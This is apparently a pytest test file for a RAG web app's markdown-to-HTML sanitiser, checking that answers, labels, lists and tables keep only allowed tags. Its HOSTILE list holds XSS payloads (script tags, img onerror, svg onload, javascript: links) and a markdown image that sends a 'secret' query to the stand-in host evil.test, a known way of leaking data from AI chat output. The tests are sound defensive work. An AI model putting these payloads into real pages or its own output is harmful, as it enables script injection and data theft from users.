"""What untrusted text may become."""

import re

import pytest

from rag.web.markup import answer_html, label, list_html, table_html, text_html

TAG = re.compile(r"</?([a-z0-9]+)")
ALLOWED = {"div", "p", "em", "strong", "ul", "ol", "li", "blockquote", "code", "sup", "br"}

WRAP = 'dir="auto" style="overflow-wrap:anywhere"'

HOSTILE = [
    "<script>alert(1)</script>",
    "<iframe src='http://evil.test'></iframe>",
    "<style>body{display:none}</style>",
    "<img src=http://evil.test/x.png onerror=alert(1)>",
    "![x](http://evil.test/?q=secret)",
    "![x][far]\n\n[far]: http://evil.test/x.png",
    "[a][far]\n\n[far]: http://evil.test",
    "[a](http://evil.test)",
    "[a](javascript:alert(1))",
    "<http://evil.test>",
    "http://evil.test and www.evil.test and a@evil.test",
    "- <b>x</b>\n> <svg onload=alert(1)>",
    "`<img src=x>`",
    "$x$ $$y$$ {{x}} {text} :red[z] :material/home: :smile:",
    "# heading\n\n```html\n<script>\n```\n\n| a | b |\n|---|---|\n| c | d |\n\n<div>\nblock\n</div>",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_an_answer_becomes_nothing_but_what_is_allowed(text: str) -> None:
    html = answer_html(text, numbers=[1])
    assert set(TAG.findall(html)) <= ALLOWED
    assert "href" not in re.sub(r"&[a-z]+;", "", html)
    assert all(attribute == WRAP for attribute in re.findall(r"<\w+ ([^>]*)>", html))


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("Virtue *is* **one** `x`.", "<p>Virtue <em>is</em> <strong>one</strong> <code>x</code>.</p>\n"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n"),
        ("> quoted", "<blockquote>\n<p>quoted</p>\n</blockquote>\n"),
        ("$x$ {{x}} {text} :red[z]", "<p>$x$ {{x}} {text} :red[z]</p>\n"),
        ("![x](http://evil.test)", "<p>![x](http://evil.test)</p>\n"),
        ("<b>", "<p>&lt;b&gt;</p>\n"),
    ],
)
def test_an_answers_markdown(text: str, html: str) -> None:
    assert answer_html(text, numbers=[]) == f"<div {WRAP}>{html}</div>"


def test_only_the_answers_own_numbers_are_raised() -> None:
    html = answer_html("One [1], two [2][1], `code [1]`, far [99999999999].", numbers=[1])
    assert html == (
        f"<div {WRAP}><p>One <sup>[1]</sup>, two [2]<sup>[1]</sup>, <code>code [1]</code>, far [99999999999]."
        "</p>\n</div>"
    )


def test_text_keeps_its_lines_and_its_language() -> None:
    assert text_html("ΣΩ. τί;\n<b>", language="grc") == f'<div lang="grc" {WRAP}>ΣΩ. τί;<br>&lt;b&gt;</div>'
    assert text_html("a", language='"><script>') == f'<div lang="&quot;&gt;&lt;script&gt;" {WRAP}>a</div>'


def test_lists_and_tables_escape_what_is_in_them() -> None:
    assert list_html(["<b>"]) == f"<ul><li {WRAP}>&lt;b&gt;</li></ul>"
    assert '<td style="text-align:right;padding:.2rem .6rem">&lt;i&gt;</td>' in table_html(
        ["n"], [["<i>"]], numeric=[0]
    )


@pytest.mark.parametrize(
    ("text", "escaped"),
    [
        ("[1] Guide, on *Meno* 80a", r"\[1\] Guide, on \*Meno\* 80a"),
        ("$x$ `y` {z}", r"\$x\$ \`y\` \{z\}"),
        (":red[x] :smile:", "\\:\u2060red\\[x\\] \\:\u2060smile\\:"),
        ("Plato: Meno", r"Plato\: Meno"),
        ("http://evil.test", "http\\:\u2060\\/\\/evil\\.test"),
        ("www.evil.test a@b.test", "www\u2060\\.evil\\.test a\\@\u2060b\\.test"),
        ("a\n\n# b\u202ec", r"a \# bc"),
        (" 5\u202f404  « a\u00a0»\n", "5\u202f404 « a\u00a0»"),  # spaces that do not break
    ],
)
def test_a_label_is_read_as_it_is_written(text: str, escaped: str) -> None:
    assert label(text) == escaped
